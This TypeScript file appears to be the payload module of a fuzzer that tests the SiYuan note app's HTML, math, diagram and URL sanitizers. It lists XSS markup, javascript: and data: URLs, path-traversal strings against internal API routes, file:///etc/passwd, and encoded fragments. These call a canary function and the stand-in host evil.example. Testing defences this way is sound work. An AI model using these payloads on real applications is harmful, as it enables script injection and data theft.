// What an attacker would want to stand in a note. `fuzz(№)` is the call that must never happen, `evil.example/№` the address that must
// never be asked; № is the number of the composition.
import type { Choices } from './random.ts';

type Texts = readonly [string, ...string[]];

const MARKUP: Texts = [
  '<img src=f№ onerror=fuzz(№)>',
  '<img src=//evil.example/№>',
  '<img/src=//evil.example/№/onerror=fuzz(№)>',
  '<svg onload=fuzz(№)>',
  '<svg><image href=//evil.example/№ /></svg>',
  '<svg><use href="//evil.example/№#a"/></svg>',
  '<svg><script>fuzz(№)</script></svg>',
  '<iframe srcdoc="<script>parent.fuzz(№)</script>"></iframe>',
  '<iframe src="javascript:parent.fuzz(№)"></iframe>',
  '<iframe src="//evil.example/№"></iframe>',
  '<script>fuzz(№)</script>',
  '<script src=//evil.example/№></script>',
  '<style>@import "//evil.example/№";</style>',
  '<link rel=stylesheet href=//evil.example/№>',
  '<details open ontoggle=fuzz(№)><summary>x</summary></details>',
  '<video src=//evil.example/№ onerror=fuzz(№)></video>',
  '<audio src=//evil.example/№></audio>',
  '<object data=//evil.example/№></object>',
  '<embed src=//evil.example/№>',
  '<input autofocus onfocus=fuzz(№)>',
  '<a href="javascript:fuzz(№)">x</a>',
  '<form action="javascript:fuzz(№)"><button>x</button></form>',
  '<math><mtext><a href="javascript:fuzz(№)">x</a></mtext></math>',
  '<base href="//evil.example/№/">',
  '<meta http-equiv=refresh content="0;url=//evil.example/№">',
  '<p style="background:url(//evil.example/№)">x</p>',
  '<span style="animation:x" onanimationstart=fuzz(№)>x</span>',
  '<table background=//evil.example/№><td>x</table>',
  '<picture><source srcset=//evil.example/№><img></picture>',
  '<noscript><p title="</noscript><img src=f№ onerror=fuzz(№)>">',
  '<math><mglyph><style><!--</style><img src=f№ onerror=fuzz(№)>--></style>',
  '<protyle-html data-content="<img src=f№ onerror=fuzz(№)>"></protyle-html>',
  '<!--><img src=f№ onerror=fuzz(№)>-->',
  '<?x ><img src=f№ onerror=fuzz(№)>?>',
  '<wbr><img src=f№ onerror=fuzz(№)>',
  '"><img src=f№ onerror=fuzz(№)>',
  "'><img src=f№ onerror=fuzz(№)>",
  '</div></div><img src=f№ onerror=fuzz(№)>',
  '</span><img src=f№ onerror=fuzz(№)>',
  '</textarea></title></style><img src=f№ onerror=fuzz(№)>',
  '" onmouseover=fuzz(№) x="',
  '" onerror="fuzz(№)',
  '" style="background:url(//evil.example/№)',
  '<img src=f№ onerror',
  '=fuzz(№)>',
  '<i',
  'mg src=//evil.example/№>',
  '<',
  '>',
  '&lt',
  '&',
  '<span data-type="strong"><img src=f№ onerror=fuzz(№)></span>',
  '<span data-type="a" data-href="javascript:fuzz(№)">x</span>',
  '<span data-type="inline-math" data-subtype="math" data-content="\\href{javascript:fuzz(№)}{x}" class="render-node"></span>',
  '<span data-type="inline-memo" data-inline-memo-content="<img src=//evil.example/№>">x</span>',
  '<div data-type="NodeHTMLBlock" class="render-node"><protyle-html data-content="<script>fuzz(№)</script>"></protyle-html></div>',
  '<u onclick=fuzz(№)>x</u>',
  '<kbd style="background:url(//evil.example/№)">x</kbd>',
  '<b onpointerenter=fuzz(№)>x</b>',
];

const ADDRESSES: Texts = [
  'javascript:fuzz(№)',
  'JaVaScRiPt:fuzz(№)',
  'java\tscript:fuzz(№)',
  ' javascript:fuzz(№)',
  'javascript&colon;fuzz(№)',
  'javascript://a.example/%0afuzz(№)',
  'vbscript:fuzz(№)',
  'data:text/html,<script>fuzz(№)</script>',
  'data:image/svg+xml,<svg onload=fuzz(№)>',
  'blob:http://siyuan.invalid/x',
  'file:///etc/passwd',
  'http://evil.example/№',
  'https://evil.example/№.png',
  '//evil.example/№',
  '\\\\evil.example\\№',
  '/\\evil.example/№',
  '/api/network/proxy?u=http://evil.example/№',
  'assets/../api/network/proxy?u=№',
  'assets/%2e%2e/api/system/exit',
  'assets/.%2e/api/system/exit',
  'assets/.\t./api/system/exit',
  'assets/./../api/system/exit',
  'assets\\..\\api\\system\\exit',
  'assets/..%2fapi',
  'assets/x.png',
  'assets/x.png?a=1',
  'assets/x.png#<img src=f№ onerror=fuzz(№)>',
  'assets/%3Cimg%20src=%22//evil.example/№%22%3E.png',
  'assets/%253Cimg%2520src=f№%2520onerror=fuzz(№)%253E.png',
  'emojis/../api/x',
  '/emojis/../api/x',
  'emojis/x.png',
  'siyuan://plugins/x',
  'siyuan://blocks/20200101000000-aaaaaaa',
  'siyuan://blocks/../plugins/x',
  'https://a.example/%3Cimg%20src=%22//evil.example/№%22%3E',
  'https://a.example/"><img src=//evil.example/№>',
  'mailto:a@b.c',
  'relative/path.md',
  'x:y',
  '#here',
  '?a',
];

const FORMULAS: Texts = [
  'x^2',
  '\\frac{a}{b}',
  'a < b > c',
  'a<b',
  '\\href{javascript:fuzz(№)}{x}',
  '\\href{//evil.example/№}{x}',
  '\\url{javascript:fuzz(№)}',
  '\\includegraphics{//evil.example/№}',
  '\\htmlData{a=1}{x}',
  '\\htmlClass{b3-dialog}{x}',
  '\\htmlId{x}{x}',
  '\\htmlStyle{background:url(//evil.example/№)}{x}',
  '\\def\\h{\\href}\\h{javascript:fuzz(№)}{x}',
  '\\let\\h\\href \\h{javascript:fuzz(№)}{x}',
  '\\newcommand{\\h}{\\href}\\h{javascript:fuzz(№)}{x}',
  '\\csname href\\endcsname{javascript:fuzz(№)}{x}',
  '\\global\\def\\x#1{\\htmlStyle{#1}}\\x{background:url(//evil.example/№)}{x}',
  '\\hr%\nef{javascript:fuzz(№)}{x}',
  '\\text{<img src=f№ onerror=fuzz(№)>}',
  '\\nope<img src=f№ onerror=fuzz(№)>',
  '{<img src=f№ onerror=fuzz(№)>',
  'x^<img/src=f№/onerror=fuzz(№)>^',
  '\\color{<img src=f№ onerror=fuzz(№)>}x',
  '\\color{red;background:url(//evil.example/№)}x',
  '\\rule{1em}{<svg onload=fuzz(№)>}',
  '\\verb|<img src=f№ onerror=fuzz(№)>|',
  '\\tag{<img src=f№ onerror=fuzz(№)>}',
  '\\ce{<img src=f№ onerror=fuzz(№)>}',
  '\\begin{<img src=f№ onerror=fuzz(№)>}',
  '\\unicode{<svg/onload=fuzz(№)>}',
  '\\char"3C img',
  '\\operatorname{<b>}',
  '\\begin{array}{<img src=f№ onerror=fuzz(№)>}\\end{array}',
  '\\kern<img/src=f№/onerror=fuzz(№)>',
  '\\style{background:url(//evil.example/№)}{x}',
  '\\unknowncommand',
  '}',
  '\\\\',
  '思源',
];

const DIAGRAMS: Texts = [
  'graph TD\nA[one] --> B[two]',
  'graph TD\nA["T"] --> B',
  'graph TD\nA -->|T| B',
  'graph TD\nA["`T`"]',
  'graph TD\nA["$$T$$"]',
  'graph TD\nA{T}',
  'graph TD\nA[x]\nclick A href "U"',
  'graph TD\nA[x]\nclick A "U" "T"',
  'graph TD\nA[x]\nclick A call fuzz(№)',
  'graph TD\nA[x]\nstyle A fill:url(//evil.example/№)',
  'graph TD\nA[x]:::c\nclassDef c background:url(//evil.example/№),T',
  'graph TD\nA@{ img: "//evil.example/№", label: "T" }',
  'graph TD\nA@{ icon: "logos:T" }',
  'graph TD\nsubgraph T\nA\nend',
  '%%{init: {"securityLevel":"loose","theme":"base","themeCSS":"T","themeVariables":{"fontFamily":"T"}}}%%\ngraph TD\nA[x]',
  '---\nconfig:\n  htmlLabels: true\ntitle: T\n---\ngraph TD\nA[x]',
  'sequenceDiagram\nA->>B: T\nNote over A: T',
  'sequenceDiagram\nparticipant A as T\nlink A: x @ U\nA->>B: x',
  'sequenceDiagram\nlinks A: {"x": "U"}\nproperties A: {"class":"T"}\nA->>B: x',
  'sequenceDiagram\nbox T\nparticipant A\nend\nA->>A: T',
  'classDiagram\nclass A["T"]\nA : T\nlink A "U" "T"',
  'classDiagram\nclass A\n<<interface>> A\nA <|-- B : T\ncallback A "fuzz" "T"',
  'stateDiagram-v2\n[*] --> A : T\nnote right of A\nT\nend note',
  'erDiagram\nA ||--o{ B : "T"\nA {\nstring x "T"\n}',
  'gantt\ntitle T\nsection T\nT :a1, 2024-01-01, 3d\nclick a1 href "U"',
  'pie title T\n"T" : 3',
  'mindmap\nroot((T))\n T\n  ::icon(T)',
  'timeline\ntitle T\n2024 : T',
  'journey\ntitle T\nsection T\nT: 5: T',
  'gitGraph\ncommit id: "T" tag: "T"',
  'quadrantChart\ntitle T\nx-axis T --> T',
  'xychart-beta\ntitle "T"\nx-axis [T]\nbar [1]',
  'requirementDiagram\nrequirement r {\nid: 1\ntext: "T"\n}',
  'C4Context\ntitle T\nPerson(a, "T", "T", $link="U", $sprite="T")',
  'sankey-beta\n\nT,b,3',
  'block-beta\na["T"]',
  'kanban\nid[T]\n i[T]@{ ticket: T }',
  'architecture-beta\nservice a(T)[T]',
  'packet-beta\n0-15: "T"',
  'radar-beta\naxis a["T"]\ncurve c["T"]{1}',
  'treemap-beta\n"T"\n "T": 1',
  'zenuml\ntitle T\nA.T()',
  'info T',
  'nonsense T',
  'graph TD\nA[T',
  'accTitle: T\ngraph TD\naccDescr: T\nA',
  'T',
];

const LANGUAGES: Texts = [
  'mermaid',
  'mermaid x',
  'Mermaid',
  'echarts',
  'abc',
  'plantuml',
  'flowchart',
  'graphviz',
  'mindmap',
  'infographic',
  'math',
  'html',
  'js',
  'smiles',
  'wavedrom',
  'T',
];

const SOURCES: Texts = [
  '{"series":[{"data":[fuzz(№)]}]}',
  'fuzz(№)',
  '%%params {"a":fuzz(№)}\nX:1\nK:C\nCDE',
  '@startuml\nA -> B: T\n@enduml',
  'digraph { a [image="//evil.example/№", URL="U"] }',
  'st=>start: T:>U',
  '- T',
  'T',
];

/** A word that does no harm, and words that live next to syntax. */
const WORDS: Texts = [
  'text',
  'two words',
  '思源',
  '1 < 2 & 3 > 2',
  'a.example',
  'T&D',
  '$5 and $6',
  '100%',
  '\\',
  '"quoted"',
  "it's",
  ':smile:',
  '((x))',
  '{{x}}',
  '|',
  '[^1]',
  '🏳️‍🌈',
];

/** Parts that mean nothing alone: put together at random they come close to what a guard looks for, from the side where it lets through. */
const PARTS: Texts = [
  '<',
  ...['</', '>', '/>', '<!', '<?', '< ', 'i', 'mg', 'img ', 'svg', 'a ', 'b>', 'src', 'href', 'on', 'load', 'error', '=', '"', "'"],
  ...['fuzz(№)', 'javascript', ':', '//', 'evil.example/№', 'url(', ')', '(', 'data:', 'style', 'x', 'text', ' ', ' ', '\u00a0', '思'],
  ...[
    '&',
    '&lt',
    '&lt;',
    '&#60',
    '&#x3c;',
    '&amp;',
    ';',
    '#',
    '#lt;',
    '#35;',
    '60',
    '%3C',
    '%',
    '%%',
    '\\',
    '\\n',
    '\\href',
    '\\html',
    '{',
    '}',
    '\\{',
  ],
  ...[
    '$',
    '$$',
    '^',
    '_',
    '~',
    '*',
    '**',
    '`',
    '@',
    '@{',
    '[',
    ']',
    '|',
    '==',
    '--',
    '-->',
    '---',
    'click',
    'call',
    'link',
    'img:',
    'init:',
  ],
  ...[
    '\u200b',
    '‸',
    '<wbr>',
    '\t',
    '_esc_newline_',
    '{{',
    '}}',
    '((',
    '))',
    '{:',
    '//!js',
    'assets/',
    '..',
    '.',
    '?',
    '\u2028',
    'Ｌ',
    '＜',
  ],
];

const fill = (text: string, number: number): string => text.replaceAll('№', String(number));

/** One text of each kind, with the composition's number in it. `T` and `U` in diagrams and sources stand for a text and an address. */
export class Payloads {
  private readonly choices: Choices;
  private readonly number: number;

  constructor(choices: Choices, number: number) {
    this.choices = choices;
    this.number = number;
  }

  private from(list: Texts): string {
    return fill(this.choices.pick(list), this.number);
  }

  readonly markup = (): string => this.from(MARKUP);
  readonly address = (): string => this.from(ADDRESSES);
  readonly word = (): string => this.from(WORDS);
  readonly language = (): string => this.slots(this.choices.pick(LANGUAGES));

  formula(): string {
    const one = this.from(FORMULAS);
    return this.choices.pick([one, one, `${one} ${this.from(FORMULAS)}`, `${one}${this.odd()}`, `\\text{${this.odd()}}`]);
  }

  diagram(): string {
    return this.slots(this.choices.pick(DIAGRAMS), this.choices.chance(0.7) ? () => this.tame() : undefined);
  }

  /** A label that is likely to be let through: what lies at the border is worth more here than what is refused at once. */
  private tame(): string {
    return this.choices.chance(0.5) ? this.word() : this.odd().slice(0, 1 + this.choices.below(12));
  }

  source(): string {
    return this.slots(this.choices.pick(SOURCES));
  }

  /** A few parts behind each other. */
  odd(): string {
    const count = 1 + this.choices.below(7);
    return Array.from({ length: count }, () => this.from(PARTS)).join('');
  }

  /** What an attacker puts where a text is expected. */
  text(): string {
    const kind = this.choices.below(14);
    if (kind < 5) return this.markup();
    if (kind < 9) return this.odd();
    if (kind < 12) return this.word();
    return kind === 12 ? this.address() : this.from(FORMULAS);
  }

  private slots(template: string, label = () => this.text()): string {
    return fill(
      template.replace(/\b[TU]\b/g, (slot) => (slot === 'T' ? label() : this.address())),
      this.number,
    );
  }
}
